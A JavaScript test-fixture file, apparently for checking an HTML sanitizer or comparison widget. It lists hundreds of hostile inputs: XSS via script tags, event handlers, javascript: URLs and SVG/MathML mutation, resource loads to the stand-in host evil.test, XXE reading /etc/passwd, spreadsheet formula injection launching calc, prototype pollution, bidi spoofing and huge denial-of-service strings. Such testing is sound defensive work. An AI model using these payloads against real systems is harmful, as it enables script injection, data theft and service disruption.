// What somebody might paste to do harm: each input by its name. Whatever runs would call `hit`, whatever loads would ask
// evil.test. The same inputs are tried as plain text and as HTML.

const far = '//evil.test';
const list = (kind, payloads) => payloads.map((payload, i) => [`${kind} ${i + 1}`, payload]);

const scripts = [
  '<script>hit()</script>',
  '<SCRIPT>hit()</SCRIPT >',
  `<script src=${far}/x.js></script>`,
  '<script type="module">hit()</script>',
  '<script/x>hit()</script>',
  '<<script>hit()//<</script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '</title><script>hit()</script>',
  '</textarea><script>hit()</script>',
  '--><script>hit()</script>',
  ']]><script>hit()</script>',
  '"><script>hit()</script>',
  "'><script>hit()</script>",
  '<noscript><p title="</noscript><script>hit()</script>"></noscript>',
  '<template><script>hit()</script></template>',
  '<template shadowrootmode="open"><script>hit()</script></template>',
  '<select><script>hit()</script></select>',
  '<table><tr><script>hit()</script></table>',
  '<xmp><script>hit()</script></xmp>',
  '<style></style><script>hit()</script>',
  '<script>hit()',
  '</script><script>hit()</script>',
  '<plaintext><script>hit()</script>',
  '<script\u0000>hit()</script>',
  '<script>\u2028hit()</script>',
];

const handlers = [
  '<img src=x onerror=hit()>', '<img src=x onerror="hit()"//', '<img src=x\nonerror\n=\nhit()>', '<img/src=x/onerror=hit()>',
  '<IMG SRC=x ONERROR=hit()>', '<img src=x onerror=&#104;it()>', '<img src="x` `<script>hit()</script>"` `>', '<image src=x onerror=hit()>',
  '<body onload=hit()>', '<body onpageshow=hit()>', '<body onhashchange=hit()>', '<input autofocus onfocus=hit()>',
  '<select autofocus onfocus=hit()>', '<textarea autofocus onfocus=hit()>', '<button autofocus onfocus=hit()>', '<details open ontoggle=hit()>',
  '<video><source onerror=hit()></video>', '<video src=x onerror=hit()>', '<audio src=x onerror=hit()>', '<video src=x><track default onerror=hit()></video>',
  '<marquee onstart=hit()>x</marquee>', '<iframe onload=hit()></iframe>', '<object data=x onerror=hit()>', '<embed src=x onload=hit()>',
  '<link rel=stylesheet href=x onload=hit() onerror=hit()>', '<style onload=hit()></style>', '<p onmouseover=hit() onpointerenter=hit()>x</p>',
  '<form onsubmit=hit()><input type=submit></form>', '<div popover onbeforetoggle=hit()>x</div>', '<dialog open onclose=hit()>x</dialog>',
  '<x style="animation:a 1s" onanimationstart=hit()>x</x>', '<div hidden=until-found onbeforematch=hit()>x</div>', '<a onclick=hit() href=#>x</a>',
  '<article-compare onready=hit()></article-compare>',
];

const addresses = [
  '<a href="javascript:hit()">x</a>', '<a href=" javascript:hit()">x</a>', '<a href="java\tscript:hit()">x</a>', '<a href="java\nscript:hit()">x</a>',
  '<a href="JaVaScRiPt:hit()">x</a>', '<a href="&#106;avascript:hit()">x</a>', '<a href="javascript&colon;hit()">x</a>', '<a href="\u0001javascript:hit()">x</a>',
  '<a href="data:text/html,<script>hit()</script>">x</a>', '<a href="vbscript:hit()">x</a>', '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>', '<form action="javascript:hit()"><button>x</button></form>', '<button formaction="javascript:hit()">x</button>',
  '<base href="javascript:hit()//">', `<base href="${far}/">`, '<meta http-equiv="refresh" content="0;url=javascript:hit()">',
  `<meta http-equiv="refresh" content="0;url=http:${far}/">`, '<object data="data:text/html,<script>hit()</script>"></object>', '<embed src="javascript:hit()">',
  'javascript:hit()', 'data:text/html,<script>hit()</script>', `https:${far}/?q=<script>hit()</script>`,
];

const loads = [
  `<img src=${far}/p>`, `<img srcset="${far}/p 1x">`, `<picture><source srcset="${far}/p"><img></picture>`, `<link rel=prefetch href=${far}/p>`,
  `<link rel=preload as=image href=${far}/p>`, `<link rel=dns-prefetch href=${far}>`, `<link rel=stylesheet href=${far}/p>`, `<video poster=${far}/p></video>`,
  `<audio src=${far}/p></audio>`, `<table background=${far}/p></table>`, `<body background=${far}/p>`, `<a ping=${far}/p href=#>x</a>`,
  `<input type=image src=${far}/p>`, `<frameset><frame src=${far}/p></frameset>`, `<iframe src=${far}/p></iframe>`, `<object data=${far}/p></object>`,
  `<embed src=${far}/p>`, `<bgsound src=${far}/p>`, `<style>@import "${far}/p";</style>`, `<style>* { background: url(${far}/p) }</style>`,
  `<p style="background:url(${far}/p)">x</p>`, `<style>@font-face { font-family: x; src: url(${far}/p) } * { font-family: x }</style>`,
  '<p style="width:expression(hit())">x</p>', '<p style="behavior:url(#x);-moz-binding:url(#x)">x</p>', `<link rel=modulepreload href=${far}/p>`,
];

const drawings = [
  '<svg onload=hit()></svg>', '<svg><script>hit()</script></svg>', `<svg><script href=${far}/x.js></script></svg>`, '<svg><script>&#104;it()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>', '<svg><set onbegin=hit() attributeName=x></svg>', '<svg><a xlink:href="javascript:hit()"><text>x</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:hit() /><text>x</text></a></svg>', `<svg><image href=${far}/p></svg>`, `<svg><use href=${far}/p#x></svg>`,
  '<svg><foreignObject><iframe onload=hit()></iframe></foreignObject></svg>', '<svg><style><img src=x onerror=hit()></style></svg>', '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
  '<math><mtext><script>hit()</script></mtext></math>', '<math href="javascript:hit()">x</math>', '<math><mtext><table><mglyph><style><img src=x onerror=hit()>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>',
  '<svg><desc><![CDATA[</desc><script>hit()</script>]]></svg>', '<math><mi//xlink:href="data:x,<script>hit()</script>">',
];

const malformed = [
  '<', '<!', '<!-', '<!--', '<!-->', '<!--->', '<!----!>', '<![CDATA[', '<?xml version="1.0"?>', '</', '</ >', '<a b', "<a b='", '<a b=c"', '<a/ b', '<a =b>', '&#', '&#x', '&#x110000;', '&#0;',
  '&#xD800;', '&notit;', '&AMP', '&lt;script&gt;hit()&lt;/script&gt;', '&amp;lt;script&amp;gt;', '<b><i>x</b></i>', '<table><p>x</table>', '</p></p></p>', '<p title="a" title="<img src=x onerror=hit()>">x</p>',
  '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;</x>',
  '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>', '<html><head></html><body><body></body>x',
];

const deep = 100_000;
const huge = [
  '<div>'.repeat(deep) + 'x', '<b>'.repeat(deep) + 'x' + '</b>'.repeat(deep), '<table><tr><td>'.repeat(deep / 10) + 'x', '<ul><li>'.repeat(deep / 2) + 'x', '<'.repeat(deep), '&'.repeat(deep), '<!--'.repeat(deep),
  '('.repeat(deep) + ')'.repeat(deep), '“'.repeat(deep), `<p ${Array.from({ length: 20_000 }, (_, i) => `a${i}=x`).join(' ')}>x</p>`, 'x'.repeat(deep), '&amp;'.repeat(deep), '1'.repeat(deep), '\n'.repeat(deep),
  'e' + '\u0301'.repeat(deep / 20),
];

const signs = [
  '\ud800', '\udc00', '\udc00\ud800', 'a\ud83d b', '\ud83d\ud83d\udea2', '\u202Egnp.exe', '\u202D\u202E\u202D', '\u2066\u2067\u2068 open', '\u2069\u2069 closed', 'file\u202Etxt.exe\u202C', '\u200F\u200E\u061C',
  'pass\u200Bword', 'zero\u200C\u200Dwidth', '\uFEFFmark', 'soft\u00ADhyphen', '\u{E0001}\u{E0068}\u{E0069}', '\uFE0F\uFE0E', 'z\u0334\u0335\u0336\u0337\u0338algo', '\u3164\u115F\u1160', 'line\u2028para\u2029end',
  'nul\u0000end', '\u0001\u0002\u0007\u0008\u001B[31m', '\u0080\u009B\u009F', '\uFFF9a\uFFFAb\uFFFB', '\uFFFE\uFFFF\u{10FFFF}', '👨‍👩‍👧‍👦 🏳️‍🌈 👩🏽‍🚒', '\uE000\uF8FF', '\u0085\u000B\u000C', 'ſcript \u212A \u0130',
];

const formulas = [
  '=1+1', '=cmd|\' /C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '＝1+1', '＋1', '－1', '＠x', `=HYPERLINK("http:${far}","x")`, '"=1+1', '";=1+1;"', '",=1+1', '=IMPORTXML("http://evil.test")',
  '\u200B=1+1', '\uFEFF=1+1', '|x', '%0A=1',
];

const elsewhere = [
  `![x](${far}/p)`, '[x](javascript:hit())', '[x]: javascript:hit()', '<javascript:hit()>', '```\n</code><script>hit()</script>\n```', '| a | b |\n|---|---|\n| c |', '# heading\n\n---\n\n> quote', '* [ ] x\n1. y', '\\\\ \\* \\_ \\`',
  '{{constructor.constructor("hit()")()}}', '${hit()}', '<%= hit() %>', '#{hit()}', '"};hit();//', "');hit();//", '\\u003cscript\\u003ehit()\\u003c/script\\u003e', '\\x3cscript>hit()', '{"__proto__":{"hit":1}}', '__proto__', 'constructor', 'toString',
  '*/hit()/*', '<!--#exec cmd="ls"-->', '%3Cscript%3Ehit()%3C/script%3E', '+ADw-script+AD4-hit()+ADw-/script+AD4-',
];

export const hostile = [
  ...list('script', scripts), ...list('handler', handlers), ...list('address', addresses), ...list('load', loads), ...list('drawing', drawings),
  ...list('malformed', malformed), ...list('huge', huge), ...list('sign', signs), ...list('formula', formulas), ...list('elsewhere', elsewhere),
];

// What a foreign frame might say to the page that it is in, or to the widget behind it.
export const messages = [
  'hit()', '<script>hit()</script>', 'take over', null, 0, NaN, {}, [], { type: 'init' }, { type: 'init', version: 1, left: '<img src=x onerror=hit()>' }, { type: 'result', html: '<script>hit()</script>' },
  { type: 'height', height: 1e9 }, { __proto__: { type: 'init' } }, { constructor: { prototype: { hit: 1 } } }, 'x'.repeat(1_000_000), { left: { text: 'x' }, right: { text: 'y' } },
];
